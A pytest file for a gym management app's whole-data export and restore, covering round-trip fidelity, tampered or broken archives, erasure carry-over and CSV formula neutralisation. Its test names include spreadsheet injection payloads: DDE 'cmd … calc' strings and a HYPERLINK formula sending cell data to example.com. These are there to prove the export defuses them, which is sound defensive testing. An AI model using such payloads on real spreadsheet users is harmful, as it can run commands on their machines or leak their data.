"""Everything goes along as CSV and JSON, and an empty gym that reads it is the same gym."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import stat
import zipfile
from collections.abc import AsyncGenerator
from datetime import timedelta
from decimal import Decimal
from itertools import product
from pathlib import Path
from uuid import uuid4

import pytest
from sqlalchemy import select, text, update
from typer.testing import CliRunner

from gym.app import Gym
from gym.attendance.checkin.service import AttendanceService
from gym.audit.chain_key import KeyOrigin, TrailKeyStore
from gym.audit.trail_head import BEFORE_ALL
from gym.clients.models import Client
from gym.commands import app
from gym.core.clock import FrozenClock
from gym.core.config import Config
from gym.core.database.engine import Database
from gym.core.values.formulas import as_typed
from gym.exporting import reading
from gym.exporting.errors import ExportFromFuture, ExportUnreadable, GymNotEmpty
from gym.exporting.page import page
from gym.exporting.reading import ExportArchive, is_export
from gym.exporting.restoring import GymRestore
from gym.exporting.service import WholeExportService
from gym.exporting.tables import LEFT_BEHIND, TABLES, UNTOLD
from gym.exporting.values import to_csv
from gym.exporting.writing import write_export
from gym.payments.models import Method
from gym.payments.surpluses import Surpluses
from gym.privacy.erasure import ErasureJournal, ErasureService
from gym.security.keys.secrets import Secrets
from gym.security.permissions import Actor, NotAllowed, Role
from gym.settings.models import GymState
from gym.staff.service import StaffService
from gym.subscriptions.freezes.service import FreezeService
from gym.subscriptions.models import Subscription
from gym.subscriptions.schemas import RefundMode
from gym.subscriptions.service import SubscriptionService
from gym.tables import METADATA
from tests.conftest import gym_over, hire
from tests.findings.money.conftest import cancel, refund
from tests.products.test_sales import Seller
from tests.support.databases import Clones
from tests.support.importing import Importer
from tests.support.memberships import PRICE, DeskClerk, entries
from tests.support.shop import Shop

ROOT = Path(__file__).parents[2]


@pytest.fixture
def boss(gym: Gym, admin: Actor) -> DeskClerk:
    return DeskClerk(gym, admin)


@pytest.fixture
async def empty(clones: Clones, config: Config, secrets: Secrets, clock: FrozenClock) -> AsyncGenerator[Gym]:
    """Another gym, just installed."""
    async with clones.clone() as url, gym_over(Database(url), config, secrets, clock) as opened:
        yield opened


async def lived_in(gym: Gym, boss: DeskClerk, clock: FrozenClock) -> None:
    """Months of everything that leaves rows: sales, debts, visits, freezes, refunds, credit, an import."""
    monthly = await boss.plan()
    pack = await boss.plan(Decimal(90000), name="Pack", visits=3)
    rosa, eva, uma = [await boss.client(name) for name in ("=Rosa", "Eva", "Uma")]
    async with gym.unit_of_work(Actor.system()) as uow:
        brought = await uow.session.get(Client, rosa.id)
        assert brought is not None
        brought.referred_by, brought.tags, brought.telegram_id = uma.id, ["vip", "mañana"], 4711
    first = await boss.sell(rosa, monthly)
    receipt = await boss.pay(first)
    await boss.void(receipt.entry_id)
    await boss.pay(first)
    packed = await boss.sell(eva, pack)
    await boss.pay(packed, Decimal(30000))
    third = await boss.sell(uma, monthly)
    await boss.pay(third)
    await refund(boss, third, Decimal(20000), Method.CREDIT)
    await _send_too_much(gym, boss, third)
    for _ in range(4):
        for client in (rosa, eva):
            async with gym.unit_of_work(boss.actor) as uow:
                seen = await AttendanceService(uow).check_in_client(client.id)
            if client is rosa:
                async with gym.unit_of_work(boss.actor) as uow:
                    await AttendanceService(uow).undo(seen.id)
        clock.advance(timedelta(days=1))
    async with gym.unit_of_work(boss.actor) as uow:
        begins = uow.today + timedelta(days=2)
        await FreezeService(uow).freeze(first.id, begins, begins + timedelta(days=4), "ill")
    await cancel(boss, third, RefundMode.PRO_RATA)
    await _sell_at_the_bar(gym, boss, eva)
    await Importer(gym, boss.actor).imports(
        f"Nombre;Plan;Inicio;Debe;Tarjeta\nIda Paz;Monthly;{(await gym.now()):%d/%m/%Y};40.000;0012345678\n"
    )
    async with gym.unit_of_work(boss.actor) as uow:
        await StaffService(uow).change_settings({"name": "El Toro"})


async def _send_too_much(gym: Gym, boss: DeskClerk, plan: Subscription) -> None:
    """Twice more than is owed, kept as credit; one of them is taken back."""
    for amount in (7000, 3000):
        async with gym.unit_of_work(boss.actor) as uow:
            kept, _ = await Surpluses(uow).take(
                plan.account_id, Decimal(amount), Method.TRANSFER, None, uuid4()
            )
    await boss.void(kept.id)


async def _sell_at_the_bar(gym: Gym, boss: DeskClerk, client: Client) -> None:
    """Bought at two prices, sold for cash and on account, taken back, lost."""
    shop, bar = Shop(gym, boss.actor), Seller(gym, boss.actor)
    water = await shop.has(10, "Water", barcode="7702004003508")
    await shop.stock("purchase", water.id, 5, Decimal(1600))
    await bar.sells(water, 2)
    await bar.sells(water, 3, [], client)
    await bar.voids(await bar.sells(water))
    await shop.stock("lose", water.id, 1, "broken")


async def exported(gym: Gym, actor: Actor) -> bytes:
    async with gym.unit_of_work(actor) as uow:
        facts = WholeExportService(uow).begin()
    file = io.BytesIO()
    await write_export(
        gym.database, file, gym_name=facts.gym_name, settings=dict(facts.settings), at=facts.at
    )
    return file.getvalue()


async def restore(gym: Gym, data: bytes) -> None:
    async with gym.unit_of_work(Actor.system()) as uow:
        await GymRestore(uow).restore(ExportArchive(io.BytesIO(data)))


FIGURES = {
    "sums": "SELECT kind, method, cause, count(*), sum(amount) FROM ledger_entries GROUP BY 1, 2, 3"
    " ORDER BY 1, 2, 3",
    "receipts": "SELECT receipt_number, amount, gym_day, staff_name FROM ledger_entries"
    " WHERE receipt_number IS NOT NULL ORDER BY 1",
    "balances": "SELECT c.first_name, a.kind, a.balance FROM accounts a JOIN clients c ON c.id = a.client_id"
    " ORDER BY 1, 2, 3",
    "periods": "SELECT c.first_name, p.name, s.status, s.starts_on, s.ends_on, s.anchor, s.frozen_days,"
    " s.final_price, s.visits, s.visits_used FROM subscriptions s JOIN clients c ON c.id = s.client_id"
    " JOIN plans p ON p.id = s.plan_id ORDER BY s.id",
    "visits": "SELECT c.first_name, v.at, v.gym_day, v.outcome, v.counted, v.visit_number, v.undone_at"
    " FROM check_ins v JOIN clients c ON c.id = v.client_id ORDER BY v.at, v.id",
    "people": "SELECT id, first_name, referred_by, tags, telegram_id, card_number FROM clients ORDER BY id",
    "freezes": "SELECT subscription_id, starts_on, ends_on, kind, canceled_at FROM freezes ORDER BY id",
    "prices": "SELECT plan_id, amount, valid_from, valid_until FROM plan_prices ORDER BY id",
    "products": "SELECT id, name, barcode, quantity, average_cost FROM products ORDER BY id",
    "stock": "SELECT product_id, kind, quantity, unit_cost, reason, gym_day FROM stock_movements ORDER BY id",
    "sold": "SELECT l.pieces, l.unit_price, l.unit_cost, s.seller_name, s.returned_at IS NULL, a.balance"
    " FROM sale_lines l JOIN sales s ON s.id = l.sale_id JOIN accounts a ON a.id = s.account_id"
    " ORDER BY l.id",
    "next receipt": "SELECT value FROM counters WHERE name = 'receipt'",
}


async def figures(gym: Gym) -> dict[str, list[object]]:
    async with gym.unit_of_work(Actor.system()) as uow:
        return {
            name: [tuple(row) for row in (await uow.session.execute(text(query))).all()]
            for name, query in FIGURES.items()
        }


async def test_an_empty_gym_that_reads_an_export_is_the_same_gym(
    gym: Gym, boss: DeskClerk, clock: FrozenClock, empty: Gym
) -> None:
    await lived_in(gym, boss, clock)
    await restore(empty, await exported(gym, boss.actor))
    before, after = await figures(gym), await figures(empty)
    assert all(before[name] for name in FIGURES), "each figure is of something"
    assert after == before
    assert (await empty.settings()).name == "El Toro"


async def test_the_gym_that_was_read_back_goes_on(
    gym: Gym, boss: DeskClerk, clock: FrozenClock, empty: Gym
) -> None:
    await lived_in(gym, boss, clock)
    await restore(empty, await exported(gym, boss.actor))
    anew = DeskClerk(empty, await hire(empty, "Nora", Role.ADMIN))
    async with empty.unit_of_work(Actor.system()) as uow:
        eva = (await uow.session.scalars(select(Client).where(Client.first_name == "Eva"))).one()
    current = await anew.current(eva)
    assert current is not None
    paid = await anew.pay(current, Decimal(60000))
    assert paid.number == 10, "receipts go on without a gap"


async def test_money_that_two_people_moved_at_once_is_read_back_in_the_order_in_which_it_moved(
    gym: Gym, boss: DeskClerk, clock: FrozenClock, empty: Gym
) -> None:
    """A payment whose transaction began before the void that made room for it."""
    rosa = await boss.sell(await boss.client("Rosa"), await boss.plan())
    wrong = await boss.pay(rosa)
    async with gym.unit_of_work(boss.actor) as slower:
        began = slower.now
        clock.advance(timedelta(seconds=2))
        await boss.void(wrong.entry_id)
        await SubscriptionService(slower).take_payment(rosa.id, PRICE, Method.CASH, key=uuid4())
    assert [entry.at > began for entry in await entries(gym)] == [False, False, True, False]
    files = unpacked(await exported(gym, boss.actor))
    ledger = json.loads(files["ledger_entries.json"])
    older = sorted(ledger, key=lambda entry: (entry["at"], entry["id"]))  # as older releases wrote it
    assert older != ledger
    lines = ",\n".join(map(json.dumps, older))
    await restore(empty, packed(files | {"ledger_entries.json": f"[\n{lines}\n]\n".encode()}))
    assert (await figures(empty))["sums"] == (await figures(gym))["sums"]


async def test_the_settings_of_an_export_leave_the_keys_of_the_new_gym_alone(
    gym: Gym, boss: DeskClerk, clock: FrozenClock, empty: Gym
) -> None:
    await lived_in(gym, boss, clock)
    data = await exported(gym, boss.actor)
    evil = changed(
        data,
        "settings.json",
        b"{",
        b'{"data_keys": [{"id": "k0", "canary": "AA=="}], "audit_restored": "x", ',
    )
    async with empty.unit_of_work(Actor.system()) as uow:
        await TrailKeyStore(uow.session, uow.secrets.data).make(KeyOrigin(BEFORE_ALL, BEFORE_ALL))
        own = await uow.session.scalar(select(GymState.settings["audit_key"].astext))
        kept = {"data_keys": [{"id": "k1", "canary": "own"}], "audit_key": own}
        await uow.session.execute(update(GymState).values(settings=kept))
        await GymRestore(uow).restore(ExportArchive(io.BytesIO(evil)))
        there = await uow.session.scalar(select(GymState.settings))
    assert there is not None
    assert {name: there[name] for name in kept} == kept
    assert there["audit_restored"] != "x", "the mark is the new gym's own"
    assert "timezone" in there


async def test_what_cannot_be_read_back_changes_nothing(
    gym: Gym, boss: DeskClerk, clock: FrozenClock, empty: Gym, monkeypatch: pytest.MonkeyPatch
) -> None:
    await lived_in(gym, boss, clock)
    data = await exported(gym, boss.actor)
    with pytest.raises(GymNotEmpty):
        await restore(gym, data)
    monkeypatch.setattr(reading, "LONGEST_ROW", 10_000)
    endless = b'[\n{"id": "' + b"x" * 20_000 + b'"}\n]'
    for broken in (
        without_last_row(data, "ledger_entries.json"),
        data[: len(data) // 2],
        b"no ZIP",
        packed(unpacked(data) | {"clients.json": endless}),
        packed(unpacked(data) | {"plans.json": unpacked(data)["plans.json"].replace(b"\n]", b",\n{}\n]")}),
        changed(data, "settings.json", b'"America/Bogota"', b'"Nowhere/At all"'),
    ):
        with pytest.raises(ExportUnreadable):
            await restore(empty, broken)
    with pytest.raises(ExportFromFuture):
        await restore(empty, changed(data, "manifest.json", b'"version": 2', b'"version": 3'))
    after = await figures(empty)
    assert not any(after[name] for name in FIGURES if name != "next receipt")


def changed(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    files = unpacked(data)
    assert old in files[name]
    files[name] = files[name].replace(old, new)
    return packed(files)


def without_last_row(data: bytes, name: str) -> bytes:
    files = unpacked(data)
    lines = files[name].split(b"\n")
    files[name] = b"\n".join([*lines[:-3], b"]\n"]).replace(b",\n]", b"\n]")
    return packed(files)


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        return {name: source.read(name) for name in source.namelist()}


def packed(files: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        for name, content in files.items():
            made.writestr(name, content)
    return target.getvalue()


# The files ────────────────────────────────────────────────────────────────────────────────────────────────


async def test_csv_and_json_say_the_same_and_hold_no_secret(
    gym: Gym, boss: DeskClerk, clock: FrozenClock
) -> None:
    await lived_in(gym, boss, clock)
    data = await exported(gym, boss.actor)
    assert is_export(io.BytesIO(data))
    files = unpacked(data)
    for table in TABLES:
        rows = list(csv.reader(io.StringIO(files[f"{table.name}.csv"].decode("utf-8-sig"))))
        objects = json.loads(files[f"{table.name}.json"])
        assert rows[0] == list(table.columns)
        assert len(rows) - 1 == len(objects) == json.loads(files["manifest.json"])["rows"][table.name]
    people = list(csv.DictReader(io.StringIO(files["clients.csv"].decode("utf-8-sig"))))
    assert {one["first_name"] for one in people} >= {"'=Rosa", "Ida"}, "no formula for a spreadsheet to run"
    whole = b"".join(files.values())
    assert b"argon2" not in whole
    assert b"password" not in whole


async def test_members_are_a_list_that_the_import_reads(
    gym: Gym, boss: DeskClerk, clock: FrozenClock
) -> None:
    await lived_in(gym, boss, clock)
    files = unpacked(await exported(gym, boss.actor))
    importer = Importer(gym, boss.actor)
    preview = await importer.previews(files["members.csv"])
    assert {row.outcome.value for row in preview.rows} == {"known"}


NAMES = (
    *("=cmd|' /C calc'!A0", "@Eva", "-Ana", "+57 Ida", "\uff1dUma", "'t Hooft", "Sol;=1+1", "Noa; @x;-y"),
    *("Lia\n=1+1", '=HYPERLINK("https://example.com?"&A1;"x")', "Pía;\"=cmd|'/c calc'!A0;x", "Leo\t=1+1"),
    *("'=1;b", "''-1 Gil", "'57 Sur", 'Ema; " @x'),
)


async def test_no_name_is_run_by_a_spreadsheet_of_any_country_and_each_comes_back_as_it_was_typed(
    gym: Gym, boss: DeskClerk, empty: Gym
) -> None:
    for name in NAMES:
        await boss.client(name)
    data = await exported(gym, boss.actor)
    for file in ("clients.csv", "members.csv"):
        written = unpacked(data)[file].decode("utf-8-sig")
        assert run_by_spreadsheets(written) == []
    await restore(empty, data)
    async with empty.unit_of_work(Actor.system()) as uow:
        assert tuple(await uow.session.scalars(select(Client.first_name).order_by(Client.id))) == NAMES
    preview = await Importer(gym, boss.actor).previews(unpacked(data)["members.csv"])
    assert {row.row.name for row in preview.rows} == {" ".join(f"{name} Vargas".split()) for name in NAMES}
    assert {row.outcome.value for row in preview.rows} == {"known"}


def run_by_spreadsheets(written: str) -> list[str]:
    """Where a file is split at another sign, a field's quotation marks stand within a cell, or begin it."""
    naive = [line.split(sign) for sign in ";\t" for line in written.splitlines()]
    read = [row for sign in ",;\t" for row in csv.reader(io.StringIO(written, newline=""), delimiter=sign)]
    return [cell for row in [*naive, *read] for cell in row if cell.lstrip()[:1] in tuple("=+-@\uff1d")]


def test_no_order_of_quotes_apostrophes_and_cell_ends_is_run_or_comes_back_otherwise() -> None:
    """Every text of four such signs, beside another column on either side."""
    for signs in product("a'\"=; \t\n0", repeat=4):
        text = "".join(signs)
        file = io.StringIO(newline="")
        csv.writer(file).writerows([[to_csv(text), "x", to_csv(text)]])
        assert run_by_spreadsheets(file.getvalue()) == [], text
        [[first, _, last]] = csv.reader(io.StringIO(file.getvalue(), newline=""))
        assert as_typed(first) == as_typed(last) == text


async def test_who_has_asked_to_be_erased_is_erased_in_the_new_gym_a_day_later(
    gym: Gym, boss: DeskClerk, clock: FrozenClock, empty: Gym
) -> None:
    rosa, eva = await boss.client("Rosa"), await boss.client("Eva")
    for client in (rosa, eva):
        async with gym.unit_of_work(boss.actor) as uow:
            await ErasureService(uow).ask(client.id)
    async with gym.unit_of_work(boss.actor) as uow:
        await ErasureService(uow).take_back(eva.id)
    data = await exported(gym, boss.actor)
    clock.advance(timedelta(days=3))
    await restore(empty, data)

    async def erased() -> int:
        async with empty.unit_of_work(Actor.system()) as uow:
            return await ErasureService(uow).carry_out_due()

    clock.advance(timedelta(hours=23))
    assert await erased() == 0, "perhaps the wish was taken back after the export"
    clock.advance(timedelta(hours=1))
    assert await erased() == 1
    async with empty.unit_of_work(Actor.system()) as uow:
        assert list(await uow.session.scalars(select(Client.first_name).where(Client.active))) == ["Eva"]


async def test_a_gym_that_repeats_erasures_reads_its_own_export_and_erases_again_who_comes_back(
    gym: Gym, boss: DeskClerk, clock: FrozenClock, empty: Gym
) -> None:
    rosa, eva = await boss.client("Rosa"), await boss.client("Eva")
    async with gym.unit_of_work(boss.actor) as uow:
        await ErasureService(uow).ask(rosa.id)
    data = await exported(gym, boss.actor)
    async with gym.unit_of_work(boss.actor) as uow:
        await ErasureService(uow).ask(eva.id)
    clock.advance(timedelta(days=30))
    async with gym.unit_of_work(Actor.system()) as uow:
        assert await ErasureService(uow).carry_out_due() == 2
        journal = await ErasureJournal(uow).entries()
    async with empty.unit_of_work(Actor.system()) as uow:
        await ErasureJournal(uow).replay(journal)
    await restore(empty, data)
    async with empty.unit_of_work(Actor.system()) as uow:
        assert list(await uow.session.scalars(select(Client.first_name).where(Client.active))) == []


async def test_an_export_of_before_wishes_went_along_is_read_and_one_without_its_money_is_not(
    gym: Gym, boss: DeskClerk, empty: Gym
) -> None:
    await boss.client("Rosa")
    data = await exported(gym, boss.actor)
    for table in ("ledger_entries", "erasures"):
        files = unpacked(data)
        about = json.loads(files["manifest.json"]) | {"version": 1}
        del about["rows"][table], files[f"{table}.json"]
        older = packed(files | {"manifest.json": json.dumps(about).encode()})
        if table == "erasures":
            await restore(empty, older)
        else:
            with pytest.raises(ExportUnreadable):
                await restore(empty, older)


async def test_only_who_may_export_does_and_it_stands_in_the_trail(
    gym: Gym, admin: Actor, employee: Actor
) -> None:
    with pytest.raises(NotAllowed):
        await exported(gym, employee)
    await exported(gym, admin)
    async with gym.unit_of_work(Actor.system()) as uow:
        actions = await uow.session.scalars(text("SELECT action FROM audit_entries ORDER BY id DESC LIMIT 1"))
        assert list(actions) == ["gym.exported"]


def test_every_table_and_column_goes_along_or_is_left_behind_for_a_reason() -> None:
    told = {table.name: table for table in TABLES}
    assert told.keys() | LEFT_BEHIND.keys() == METADATA.tables.keys()
    assert not told.keys() & LEFT_BEHIND.keys()
    for name, table in told.items():
        columns = set(METADATA.tables[name].columns.keys()) - UNTOLD
        extra = {"telegram_id"} if name == "staff" else set()
        assert columns - extra == table.columns.keys(), name


def test_the_page_says_every_column() -> None:
    assert (ROOT / "docs/export.md").read_text() == page()


# By command ───────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.live
async def test_one_command_exports_and_another_reads_it(
    gym: Gym, empty: Gym, boss: DeskClerk, config: Config, tmp_path: Path
) -> None:
    await boss.client("Rosa")

    def run(url: str, *words: str) -> tuple[int, str]:
        shell = {
            "DATABASE_URL": url,
            "POWERGYM_HOME": str(tmp_path),
            "FACE_ROOT": str(config.packs_root),
            "LOG_LEVEL": "ERROR",
        }
        done = CliRunner().invoke(app, list(words), env=shell)
        return done.exit_code, f"{done.stdout}{done.exception or ''}".strip()

    file = tmp_path / "all.zip"
    status, said = await asyncio.to_thread(
        run, gym.database.url, "export", "--all", "--to", str(file), "--json"
    )
    assert (status, json.loads(said)["rows"]["clients"]) == (0, 1)
    assert stat.S_IMODE(os.stat(file).st_mode) == 0o600
    status, said = await asyncio.to_thread(run, empty.database.url, "import", str(file), "--json")
    assert (status, json.loads(said)["imported"]) == (0, True)
    status, said = await asyncio.to_thread(run, empty.database.url, "import", str(file))
    assert status == 1
    assert GymNotEmpty.message in said
